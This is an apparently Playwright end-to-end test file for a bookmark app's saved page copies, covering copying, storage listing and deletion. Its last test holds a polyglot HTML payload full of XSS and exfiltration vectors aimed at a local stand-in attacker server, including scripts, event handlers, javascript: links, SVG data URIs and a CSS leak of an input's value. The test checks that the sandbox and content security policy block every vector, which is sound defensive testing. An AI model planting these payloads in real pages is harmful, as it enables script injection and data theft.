import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { expectAccessible } from '../fixtures/expect-accessible';
import { expectFitBothWays } from '../fixtures/expect-fit';
import { applyLook, dialogLooks, inEach, screenLooks } from '../fixtures/looks';
import { siteUrl } from '../fixtures/sites';
import { expect, test } from '../fixtures/test';

test.beforeEach(async ({ useFreshAccount }) => {
  await useFreshAccount();
});

const sentence = 'Sleeper trains are coming back, slowly and a little late, as sleeper trains do. ';

test('a page is copied, read without the page, and its space is freed', async ({ page, api }) => {
  const url = siteUrl('/copied', { title: 'Night trains', article: sentence.repeat(12) });
  const { uuid } = await api.call('bookmarks.create', { body: { url, title: 'Trains' } });
  await page.goto(`/?preview=${uuid}`);
  const panel = page.getByRole('region', { name: 'Trains', exact: true });
  await panel.getByRole('button', { name: 'Save a copy now' }).click();
  await expect(panel.getByText('First version')).toBeVisible();
  await expectAccessible(page);
  await panel.getByRole('button', { name: /^Open the copy of/ }).click();
  const frame = page.getByRole('dialog').frameLocator('iframe');
  await expect(frame.getByText('Sleeper trains are coming back').first()).toBeVisible();
  await page.keyboard.press('Escape');
  await panel.getByRole('button', { name: /^Actions for the copy/ }).click();
  await page.getByRole('menuitem', { name: /Use its title/ }).click();
  await expect(page.getByRole('link', { name: 'Night trains', exact: true })).toBeVisible();

  await page.goto('/settings/data');
  await page.getByRole('checkbox', { name: 'Select Night trains' }).check();
  await page.getByRole('button', { name: 'Delete copies of 1 page' }).click();
  await page.getByRole('alertdialog').getByRole('button', { name: 'Delete copies of 1 page' }).click();
  await expect(page.getByText('No page is copied yet.')).toBeVisible();
});

test('the settings show the space that copies use, by collection and page, and free it', async ({
  page,
  api,
  baseURL,
}) => {
  const upload = async (title: string, kilobytes: number, collections: string[] = []) => {
    const url = siteUrl(`/${title}`);
    const { uuid } = await api.call('bookmarks.create', { body: { url, title, collections } });
    const buffer = Buffer.from(`<!doctype html><title>${title}</title><p>${'x'.repeat(kilobytes * 1_000)}`);
    const file = { name: 'page.html', mimeType: 'text/html', buffer };
    const origin = baseURL ?? '';
    const sent = await page.request.post(`/v1/bookmarks/${uuid}/copies`, {
      multipart: { file },
      headers: { origin },
    });
    expect(sent.status()).toBe(201);
    return uuid;
  };
  const { uuid: trains } = await api.call('collections.create', { body: { name: 'Trains' } });
  const kept = await upload('Small', 20);
  const gone = await upload(`Large_${'unbroken'.repeat(20)}`, 3_000, [trains]);
  for (let place = 0; place < 50; place += 1) await upload(`Page ${place}`, 100 + place);
  await inEach(page, baseURL, screenLooks, async () => {
    await page.goto('/settings/data');
    await expect(
      page.getByRole('heading', { name: /^(The 50 largest pages|As 50 maiores páginas)$/ }),
    ).toBeVisible();
    await expectFitBothWays(page);
  });
  await applyLook(page, baseURL ?? '', dialogLooks[0]!);
  await page.goto('/settings/data');
  await expectAccessible(page);
  await expect(page.getByText(/in 52 copies of 52 pages$/)).toBeVisible();
  await expect(page.getByRole('main').getByRole('listitem').filter({ hasText: 'Trains' })).toContainText(
    '1 page',
  );
  const pages = page.getByRole('checkbox', { name: /^Select (?!all)/ });
  await expect(pages).toHaveCount(50);
  await expect(pages.first()).toHaveAccessibleName(/Large/);
  await pages.first().check();
  await page.getByRole('button', { name: 'Delete copies of 1 page' }).click();
  const dialog = page.getByRole('alertdialog');
  await expect(dialog).toContainText('2.9 MB');
  await expectAccessible(page);
  await dialog.getByRole('button', { name: 'Delete copies of 1 page' }).click();
  await expect(page.getByText('2.9 MB freed')).toBeVisible();
  await expect(page.getByText(/in 51 copies of 51 pages$/)).toBeVisible();
  const copiesOf = async (uuid: string) => (await api.call('bookmarks.copies', { params: { uuid } })).content;
  expect([(await copiesOf(gone)).length, (await copiesOf(kept)).length]).toEqual([0, 1]);
  await page.getByRole('checkbox', { name: 'Select all' }).check();
  await page.getByRole('button', { name: 'Delete copies of 50 pages' }).click();
  await dialog.getByRole('button', { name: 'Delete copies of 50 pages' }).click();
  await expect(page.getByText(/in 1 copy of 1 page$/)).toBeVisible();
});

/** Every way in which a page could run something, or send something to `attacker`. */
const attacks = (attacker: string): string => `GIF89a/*--><!doctype html><html><head><title>Attack</title>
  <base href="${attacker}/base/"><meta http-equiv="refresh" content="0;url=${attacker}/refresh">
  <link rel="stylesheet" href="${attacker}/sheet.css"><link rel="preload" as="image" href="${attacker}/preload">
  <link rel="prefetch" href="${attacker}/prefetch"><link rel="icon" href="${attacker}/icon.png">
  <style>@import url(${attacker}/import.css); @font-face { font-family: x; src: url(${attacker}/font) }
    body { font-family: x; background: url(${attacker}/background) } input[value^="s"] { background: url(${attacker}/leak-s) }</style>
  <script>fetch('${attacker}/script'); top.pwned = true</script><script src="${attacker}/script.js"></script></head>
  <body onload="top.pwned = true"><p>Copied text</p><input value="secret">
  <img src="${attacker}/image" onerror="top.pwned = true"><img srcset="${attacker}/srcset 2x"><img src="relative.png">
  <svg><script>top.pwned = true</script><image href="${attacker}/svg-image" /><a href="javascript:top.pwned=true"><text y="20">svg</text></a></svg>
  <svg><use href="data:image/svg+xml,&lt;svg id='x' onload='top.pwned=true'/&gt;#x"/></svg>
  <img src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='top.pwned=true'%3E%3Cscript%3Etop.pwned=true%3C/script%3E%3C/svg%3E">
  <iframe src="${attacker}/frame"></iframe><iframe srcdoc="<script>top.pwned=true</script>"></iframe>
  <object data="${attacker}/object"></object><embed src="${attacker}/embed"><video src="${attacker}/video" autoplay></video>
  <form id="f" action="${attacker}/form" method="post"><button>Send</button></form>
  <a id="top" href="${attacker}/top" target="_top">Top</a><a href="${attacker}/ping" ping="${attacker}/ping">Ping</a>
  <math><maction actiontype="statusline" xlink:href="javascript:top.pwned=true">m</maction></math></body></html>`;

// Guarantee: nothing in a saved copy runs, sends anything or leaves its frame.
test('a hostile copy shows its text and does nothing else', async ({ page, api, baseURL, allowConsole }) => {
  const received: string[] = [];
  const server = http.createServer((request, response) => {
    received.push(request.url ?? '');
    response.end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const attacker = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  try {
    // What the policy forbids is reported in the console.
    allowConsole(/./);
    const url = siteUrl('/hostile');
    const { uuid } = await api.call('bookmarks.create', { body: { url, title: 'Hostile' } });
    const file = { name: 'page.html', mimeType: 'text/html', buffer: Buffer.from(attacks(attacker)) };
    const origin = baseURL ?? '';
    const sent = await page.request.post(`/v1/bookmarks/${uuid}/copies`, {
      multipart: { file, url },
      headers: { origin },
    });
    expect(sent.status()).toBe(201);
    const { uuid: copy } = (await sent.json()) as { uuid: string };
    const path = `/v1/bookmarks/${uuid}/copies/${copy}/file`;

    await page.goto('/settings/data');
    await page.evaluate((src) => {
      const frame = document.createElement('iframe');
      frame.sandbox.value = '';
      frame.src = src;
      document.body.append(frame);
    }, path);
    const frame = page.frameLocator(`iframe[src="${path}"]`);
    await expect(frame.getByText('Copied text')).toBeAttached();
    await frame.getByRole('button', { name: 'Send' }).dispatchEvent('click');
    await frame.getByRole('link', { name: 'Top' }).dispatchEvent('click');
    await expect(frame.getByText('Copied text')).toBeAttached();
    expect(new URL(page.url()).pathname).toBe('/settings/data');
    expect(await page.evaluate(() => 'pwned' in window)).toBe(false);

    // Alone, without a frame, its own policy is the same.
    const response = await page.goto(path);
    expect(response?.headers()['content-security-policy']).toMatch(/^sandbox; default-src 'none';/);
    await expect(page.getByText('Copied text')).toBeVisible();
    await page.getByRole('button', { name: 'Send' }).click();
    expect(new URL(page.url()).pathname).toBe(path);
    expect(received).toEqual([]);
  } finally {
    server.close();
  }
});
